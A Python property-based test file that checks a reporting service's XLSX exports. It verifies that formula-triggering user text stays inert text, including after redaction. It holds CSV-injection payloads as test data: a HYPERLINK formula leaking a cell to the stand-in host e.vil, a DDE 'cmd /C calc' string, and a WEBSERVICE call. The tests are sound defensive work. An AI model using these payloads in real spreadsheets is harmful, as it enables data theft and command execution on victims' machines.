"""No user text becomes a formula in any spreadsheet export (property-based).

Every text field of every fact the reporting service takes in (the event data models of
``projection.Fact`` and ``CompanionUpdatedData``, found by walking the models, within each field's own
length limits) is filled with text that begins with a formula trigger (OWASP "CSV Injection":
``= + - @``, tab, CR, LF). From these facts the aggregates, the weekly and the school-year report are
built as in production and rendered as XLSX, and the weekly file is also redacted (the re-saved file
after a withdrawal). In every file: no ``<f>`` element in any sheet's XML, every text cell is a text
cell, and every text that looks like a formula carries Excel's quotePrefix. The texts must reach the
files (class names, companion codes, school codes), or the sweep would prove nothing.
"""

from __future__ import annotations

import io
import re
import typing
import zipfile
from collections import Counter
from datetime import UTC, datetime, timedelta
from functools import cache
from itertools import count
from typing import Any

import annotated_types
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pydantic import BaseModel

from common import spreadsheet
from contracts.events import (
    AssignmentEndedData,
    CompanionAssignedData,
    CompanionReassignedData,
    CompanionUpdatedData,
    IntakeSubmittedData,
    IntakeUpdatedData,
    IntakeWithdrawnData,
    StudentWaitlistedData,
)
from contracts.reference import SCHOOLS
from services.reporting.logic.figures import Inputs, school_year_context, weekly_context
from services.reporting.logic.periods import ReportWeek
from services.reporting.logic.projection import Fact, counters, merge_all, waitlist_item
from services.reporting.logic.redact import redact_xlsx
from services.reporting.logic.report import render_xlsx
from services.reporting.models.aggregates import CompanionInfo, WaitlistItem

T0 = datetime(2026, 9, 14, 8, 0, tzinfo=UTC)
AS_OF = datetime(2026, 9, 28, 6, 0, tzinfo=UTC)
MODELS: tuple[type[BaseModel], ...] = (*typing.get_args(Fact), CompanionUpdatedData)
PAYLOADS = [
    'HYPERLINK("http://e.vil/?"&A1,"Klasse")',
    "cmd|' /C calc'!A0",
    "1+1",
    'WEBSERVICE("http://e.vil")',
    "SUM(1;2)",
    "A1",
]
_ids = count(1)


def _limits(field: Any) -> tuple[int, int | None, bool]:
    lo, hi, pattern = 0, None, False
    for m in field.metadata:
        if isinstance(m, annotated_types.MinLen):
            lo = m.min_length
        elif isinstance(m, annotated_types.MaxLen):
            hi = m.max_length
        elif getattr(m, "pattern", None):
            pattern = True
    return lo, hi, pattern


def text_fields() -> dict[str, tuple[int, int | None, bool]]:
    """Field name → (min length, max length, is a list) of every free-text field of the facts; the
    tightest limits where models share a name. Fields with a pattern cannot hold such text and are left
    out (the consumer would refuse the event)."""
    out: dict[str, tuple[int, int | None, bool]] = {}
    for model in MODELS:
        for name, field in model.model_fields.items():
            ann = str(field.annotation)
            if "Literal" in ann or "str" not in ann:
                continue
            lo, hi, pattern = _limits(field)
            if pattern:
                continue
            is_list = ann.startswith("list")
            if is_list:
                lo, hi = 0, None  # limits on a list are its number of entries
            old = out.get(name, (0, None, is_list))
            his = [h for h in (old[1], hi) if h is not None]
            out[name] = (max(old[0], lo), min(his) if his else None, is_list)
    return out


FIELDS = text_fields()


TRIGGER = st.sampled_from(spreadsheet.FORMULA_TRIGGERS)
PAYLOAD = st.one_of(st.sampled_from(PAYLOADS), st.text(min_size=1, max_size=20))
LEAD = st.sampled_from(["", "", " "])


@st.composite
def hostile_text(draw: st.DrawFn, lo: int, hi: int | None) -> str:
    trigger = draw(TRIGGER)
    payload = draw(PAYLOAD)
    text = (draw(LEAD) + trigger + payload)[: hi or None]
    return text + "A" * max(0, lo - len(text))


@st.composite
def hostile_student(draw: st.DrawFn) -> dict[str, Any]:
    """One hostile value per text field name (the same value wherever a fact repeats the field)."""
    values: dict[str, Any] = {}
    for name, (lo, hi, is_list) in FIELDS.items():
        if is_list:
            values[name] = draw(st.lists(hostile_text(1, 20), min_size=1, max_size=3, unique=True))
        else:
            values[name] = draw(hostile_text(lo, hi))
    values["intake_id"] = values["intake_id"][:-3] + f"{next(_ids) % 1000:03d}"  # distinct students
    return values


def _fact(model: type[BaseModel], base: dict[str, Any], hostile: dict[str, Any]) -> Any:
    data = {k: v for k, v in {**base, **hostile}.items() if k in model.model_fields}
    if model is IntakeSubmittedData or model is IntakeUpdatedData:
        data["career_fields"] = data["career_fields"][:3]
    return model.model_validate(data)


def facts_of(hostile: dict[str, Any], kind: str) -> list[Fact]:
    base: dict[str, Any] = {
        "school_year": "2026/27",
        "age_band": "17",
        "gender": "weiblich",
        "german_support": False,
        "submitted_at": T0,
        "updated_at": T0 + timedelta(hours=1),
        "matching_relevant": True,
        "waitlisted_at": T0 + timedelta(seconds=1),
        "reason": "no_capacity",
        "assigned_at": T0 + timedelta(seconds=2),
        "reassigned_at": T0 + timedelta(days=1),
        "cost": 1.0,
        "cost_change": -1.0,
        "ended_at": T0 + timedelta(days=3),
        "exit_date": (T0 + timedelta(days=3)).date(),
        "destination": "job",
        "withdrawn_at": T0 + timedelta(days=4),
    }
    chain: list[type[BaseModel]] = [IntakeSubmittedData, IntakeUpdatedData]
    chain += {
        "waitlisted": [StudentWaitlistedData],
        "assigned": [CompanionAssignedData],
        "reassigned": [CompanionAssignedData, CompanionReassignedData],
        "ended": [CompanionAssignedData, AssignmentEndedData],
        "withdrawn": [StudentWaitlistedData, IntakeWithdrawnData],
    }[kind]
    facts = []
    for model in chain:
        data = dict(base)
        if model is AssignmentEndedData:
            data["reason"] = "completed"
        elif model is IntakeWithdrawnData:
            data["reason"] = "consent_withdrawn"
        facts.append(_fact(model, data, hostile))
    return facts


@cache
def normal_population() -> list[list[Fact]]:
    out = []
    for sid in SCHOOLS:
        for k in range(12):
            iid = f"01K{next(_ids):023d}"
            p = {"school_id": sid, "class_name": "AV1", "companion_id": "B01", "intake_id": iid}
            out.append(facts_of({**p, "career_fields": ["kfz"]}, "assigned" if k % 4 else "waitlisted"))
    return out


def _summed(students: list[list[Fact]]) -> tuple[Counter[str], list[WaitlistItem]]:
    total: Counter[str] = Counter()
    waiting = []
    for facts in students:
        s = merge_all(None, facts)
        assert s is not None
        total.update({k: v for (_, k), v in counters(s).items()})
        if (w := waitlist_item(s)) is not None:
            waiting.append(w)
    return total, waiting


@cache
def _normal_summed() -> tuple[Counter[str], list[WaitlistItem]]:
    """The normal population's counters and waiting students, summed once (the reports only read them)."""
    return _summed(normal_population())


def inputs(students: list[list[Fact]], companions: list[CompanionUpdatedData]) -> Inputs:
    """The normal population and ``students`` as the report reads them."""
    normal_total, normal_waiting = _normal_summed()
    own_total, waiting = _summed(students)
    total = Counter(normal_total)
    total.update(own_total)  # update, not +: a weekly net change may be negative
    fields = set(CompanionInfo.model_fields)
    comps = {c.companion_id: CompanionInfo.model_validate(c.model_dump(include=fields)) for c in companions}
    comps["B01"] = CompanionInfo(companion_id="B01", school_ids=list(SCHOOLS), capacity=90, fte=1.0)
    return Inputs("2026/27", dict(total), comps, [*normal_waiting, *waiting])


def check_no_formulas(data: bytes, hostile: set[str]) -> int:
    """Assert the XLSX ``data`` holds no formula; returns how many cells hold one of the ``hostile`` texts
    (or the texts as the writer wrote them: control characters replaced).

    The cells are read with openpyxl's read-only reader: the same cell parser (value, type and style of
    every cell), without building the sheets' drawings and charts, which hold no cells; the dimensions the
    file declares are ignored, so every cell of every row is read."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", z.read(name)), f"formula element in {name}"
    wb = load_workbook(io.BytesIO(data), read_only=True)
    reached = 0
    written = {spreadsheet.ILLEGAL_CHARACTERS_RE.sub("\ufffd", h) for h in hostile}
    for ws in wb.worksheets:
        ws.reset_dimensions()
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    if spreadsheet.looks_like_formula(cell.value):
                        assert cell.style_array.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    reached += any(h in cell.value for h in written)
    wb.close()
    return reached


STATS: Counter[str] = Counter()


@settings(
    max_examples=60,
    deadline=None,
    database=None,
    phases=[
        Phase.explicit,
        Phase.generate,
    ],  # shrinking hundreds of facts takes minutes: the example is printed
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    first_waiting=hostile_student(),
    others=st.lists(
        st.tuples(
            hostile_student(), st.sampled_from(["waitlisted", "assigned", "reassigned", "ended", "withdrawn"])
        ),
        max_size=5,
    ),
    capacity=st.integers(0, 50),
)
def test_no_text_of_any_fact_becomes_a_formula_in_any_export(
    first_waiting: dict[str, Any], others: list[tuple[dict[str, Any], str]], capacity: int
) -> None:
    """Each example holds one waiting student (the weekly report lists the longest waits with their class
    name), so some hostile text reaches the files whatever the others are: the goal-agreement and caseload
    lists show only companions of known schools, and a withdrawn student shows nowhere (hypothesis found
    an example of one withdrawn student that reached no cell)."""
    students = [(first_waiting, "waitlisted"), *others]
    hostile_facts = [facts_of(h, kind) for h, kind in students]
    companions = [
        CompanionUpdatedData(
            companion_id=h["companion_id"],
            school_ids=h["school_ids"],
            capacity=capacity,
            active=True,
            fte=1.0,
            updated_at=T0,
        )
        for h, _ in students
    ]
    texts = {v for h, _ in students for val in h.values() for v in (val if isinstance(val, list) else [val])}
    data = inputs(hostile_facts, companions)
    weekly_ctx = weekly_context(
        data, ReportWeek.of(AS_OF, "last_week"), report_id="01T", generated_at=AS_OF, with_charts=False
    )
    weekly = render_xlsx("weekly", weekly_ctx)
    year = render_xlsx(
        "school_year", school_year_context(data, report_id="01S", generated_at=AS_OF, with_charts=False)
    )
    reached = check_no_formulas(weekly, texts) + check_no_formulas(year, texts)
    assert reached, "no hostile text reached the exports: the sweep would prove nothing"
    listed = {w["intake_id"] for w in weekly_ctx["waitlist"]}  # the longest waits (WAITLIST_LIST_LIMIT)
    waiting = [h["intake_id"] for h, kind in students if kind == "waitlisted" and h["intake_id"] in listed]
    if waiting:
        redacted, removed = redact_xlsx(weekly, waiting[0])
        assert removed >= 1
        check_no_formulas(redacted, texts)
    STATS["cases"] += 1
    STATS["cells"] += reached


def test_the_issue_example_class_name_is_text_in_the_weekly_report() -> None:
    hostile = {
        "intake_id": f"01K{next(_ids):023d}",
        "school_id": "RFS",
        "class_name": '=HYPERLINK("http://e.vil","A")',
        "companion_id": "B01",
        "career_fields": ["kfz"],
    }
    data = inputs([facts_of(hostile, "waitlisted")], [])
    ctx = weekly_context(
        data, ReportWeek.of(AS_OF, "last_week"), report_id="01T", generated_at=AS_OF, with_charts=False
    )
    xlsx = render_xlsx("weekly", ctx)
    assert check_no_formulas(xlsx, {hostile["class_name"]}) == 1
    ws = load_workbook(io.BytesIO(xlsx))["Warteliste"]
    [cell] = [c for row in ws.iter_rows() for c in row if c.value == hostile["class_name"]]
    assert cell.data_type == "s" and cell.quotePrefix


def test_a_row_is_redacted_even_when_its_reference_holds_characters_a_cell_cannot() -> None:
    """The writer stores U+FFFD for characters XML cannot hold; the redaction finds the row by that form
    (hypothesis found an id whose tail held a control character: the row stayed)."""
    hostile = {
        "intake_id": f"01K{next(_ids):019d}\x1c¢A1",
        "school_id": "RFS",
        "class_name": "AVd1a",
        "companion_id": "B01",
        "career_fields": ["kfz"],
    }
    data = inputs([facts_of(hostile, "waitlisted")], [])
    ctx = weekly_context(
        data, ReportWeek.of(AS_OF, "last_week"), report_id="01T", generated_at=AS_OF, with_charts=False
    )
    assert hostile["intake_id"] in {w["intake_id"] for w in ctx["waitlist"]}
    redacted, removed = redact_xlsx(render_xlsx("weekly", ctx), hostile["intake_id"])
    assert removed == 1
    ws = load_workbook(io.BytesIO(redacted))["Warteliste"]
    assert not [
        c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "\ufffd¢A1" in c.value
    ]


def test_a_workbook_with_a_formula_is_never_saved() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1"])  # openpyxl's own append makes a formula
    try:
        spreadsheet.save(wb)
    except spreadsheet.FormulaCellError as e:
        assert "Sheet!A1" in str(e)
    else:
        raise AssertionError("a formula cell was saved")
